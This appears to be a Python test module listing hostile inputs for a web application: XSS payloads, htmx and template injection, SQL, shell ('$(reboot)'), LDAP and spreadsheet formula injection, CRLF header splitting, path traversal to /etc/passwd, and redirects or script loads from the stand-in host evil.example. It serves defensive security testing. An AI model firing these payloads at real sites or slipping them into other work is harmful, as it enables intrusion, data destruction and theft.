"""Hostile inputs, in tables."""

TEXTS = (
    *r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script/x>alert(1)</script/x>
<<script>alert(1)//<</script>
<script>alert(1)
<script src=data:text/javascript,alert(1)></script>
<script type=module>import "//evil.example"</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</option></select><script>alert(1)</script>
</pre><script>alert(1)</script>
</q></mark><script>alert(1)</script>
</noscript><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script><!--
]]><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img/src="x"/onerror=alert(1)>
<img src=//evil.example/pixel.gif>
<img srcset="https://evil.example/1 1x">
<image href=https://evil.example/x>
<svg onload=alert(1)>
<svg><script href=https://evil.example/></script></svg>
<svg><animate onbegin=alert(1) attributeName=x>
<svg><use href="https://evil.example/#x"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<html onmouseover=alert(1)>
<frameset onload=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data=https://evil.example/x></object>
<embed src=https://evil.example/x>
<applet code=x></applet>
<base href=https://evil.example/>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=preconnect href=https://evil.example>
<link rel=manifest href=https://evil.example/m>
<meta http-equiv=refresh content="0;url=https://evil.example">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta name=htmx-config content='{"allowEval":true}'>
<style>@import "https://evil.example/x.css";</style>
<style>*{background:url(https://evil.example/)}</style>
<p style="background:url(https://evil.example/)">x
<div style="position:fixed;inset:0;z-index:9">x
<form action=https://evil.example><input name=word>
<button form=x formaction=https://evil.example>Approve</button>
<input autofocus onfocus=alert(1)>
<input type=image src=https://evil.example/x>
<isindex action=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href=//evil.example>x</a>
<a href=https://evil.example ping=https://evil.example>x</a>
<a href=x target=_blank>x</a>
<area href=javascript:alert(1)>
<details open ontoggle=alert(1)>
<select autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>x
<video src=https://evil.example/x autoplay></video>
<audio src=x onerror=alert(1)>
<video poster=https://evil.example/x></video>
<track src=https://evil.example/x>
<dialog open>x</dialog>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>
<portal src=https://evil.example></portal>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<plaintext>
<xmp><img src=x onerror=alert(1)></xmp>
<listing><img src=x onerror=alert(1)>
<!--<img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
<div hx-get=/shop hx-trigger=load>x</div>
<div hx-post=/runs/x/delivery/approve hx-trigger=load>x</div>
<div hx-on:click="alert(1)">x</div>
<div hx-sse:connect=https://evil.example/>x</div>
<div data-hx-get=/uploads/discard data-hx-trigger=load>x</div>
<button data-key=f>x</button>
<b id=main name=key>x</b>
" onmouseover="alert(1)" x="
" onmouseover=alert(1) x=
' onmouseover='alert(1)' x='
` onmouseover=alert(1) x=`
" autofocus onfocus="alert(1)
"><script>alert(1)</script>
'><script>alert(1)</script>
" style="color:red
" hx-get="/shop" hx-trigger="load
"/><link rel=preload href=//evil.example>
x onerror=alert(1)
javascript:alert(1)
JaVaScRiPt:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
//evil.example/x
\\evil.example\x
/\evil.example
https://evil.example/
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
{{ 7 * 7 }}
{{ request.app.state.console }}
{% include "/etc/passwd" %}
{# comment #}{{ "".__class__.__mro__ }}
{{{ 7 * 7 }}} ${7*7} #{7*7} <%= 7*7 %>
%s %(x)s {0} {x.__class__}
=cmd|'/C calc'!A1
@SUM(1+1)*cmd|'/C calc'!A1
'; DROP TABLE runs; --
$(reboot) `reboot` ; reboot
*)(uid=*))(|(uid=*
{"$ne": null}
../../../../etc/passwd
""".strip().splitlines(),
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<tpircs>\u2066evil\u2069",
    "\u2028<script>alert(1)</script>\u2029",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "<\u0130mg src=x onerror=alert(1)>",
    "x\r\nSet-Cookie: fondly_console=x",
    "\n\nevent: done\ndata: <script>alert(1)</script>",
    "\x0bdata: x\x0cdata: y\x1edata: z\x85data: <b>",
    "e" + "\u0301" * 300,
    "<" * 500,
    "<b>" * 300,
)
"""What names, reviews, products, categories, subjects, wordings, reasons and acts may be."""
STATIC = (
    "/static/../console.py",
    "/static/../../app.py",
    "/static/%2e%2e/app.py",
    "/static/..%2fapp.py",
    "/static/..\\app.py",
    "/static//etc/passwd",
    "/static/./../__main__.py",
    "/static/console.css/../../app.py",
    "/static/\x00",
    "/static/console.css\x00.png",
    f"/static/{'x' * 5_000}",
    "/static/",
    "/static",
    "/open/../runs",
    "/live/../runs",
    "/health/../shop",
    "/livex",
    "/healthz",
)
"""Paths that lead nowhere from where anybody may look."""
PARTS = (
    "..",
    ".",
    "%2e%2e",
    "latest\x00",
    "\x00",
    "\ufffd",
    "run-",
    "run-0123456789abcdef#audit",
    "audit#2026-12",
    "months",
    "tokens",
    "webhooks",
    "*",
    "evil.example",
    "\\\\evil.example",
    "x\r\nLocation: https:",
    "<script>alert(1)<",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "' OR 1=1",
    "\u202e",
    "9" * 400,
    "x" * 3_000,
    "-1",
    "1e9",
    "\u0661",
    "@",
    ":",
    ";a=b",
)
"""What a part of a path may be."""
QUERIES = (
    "next=%00",
    "next=//evil.example",
    "next=" + "9" * 5_000,
    "next=2026-13-45",
    "next=%FF%FE",
    "next=run-0123456789abcdef%23x",
    "next=<script>alert(1)</script>",
    'next="><img src=x onerror=alert(1)>',
    "return=https://evil.example&redirect=//evil.example&url=//evil.example",
    "status=<script>alert(1)</script>",
    "status=finished&status=failed",
    "from='\"><svg onload=alert(1)>",
    "from=" + "%F0%9F%98%80" * 300,
    "back=//evil.example&seen=<script>alert(1)</script>",
    "part=-1",
    "part=99999999999999999999",
    "part=%D9%A1",
    "part=1&part=2",
    "of=-1&at=-1",
    "of=" + "9" * 5_000,
    "of=1&at=1e3",
    "view=../../x",
    "view=<script>",
    "field=<script>alert(1)</script>&next=-5",
    'product="><script>alert(1)</script>',
    "wording='; DROP TABLE runs",
    "reason=<img src=x onerror=alert(1)>",
    "copy=__class__",
    "days=" + "9" * 5_000,
    "days=-1&against=<script>alert(1)</script>",
    "days=%C2%B2",
    "sent=" + "9" * 5_000,
    "sent=<script>alert(1)</script>",
    "mode=<script>&size=<script>",
    "&&&===;;;%%%",
    "%",
    "a" * 4_000,
)
"""What may stand after a path."""
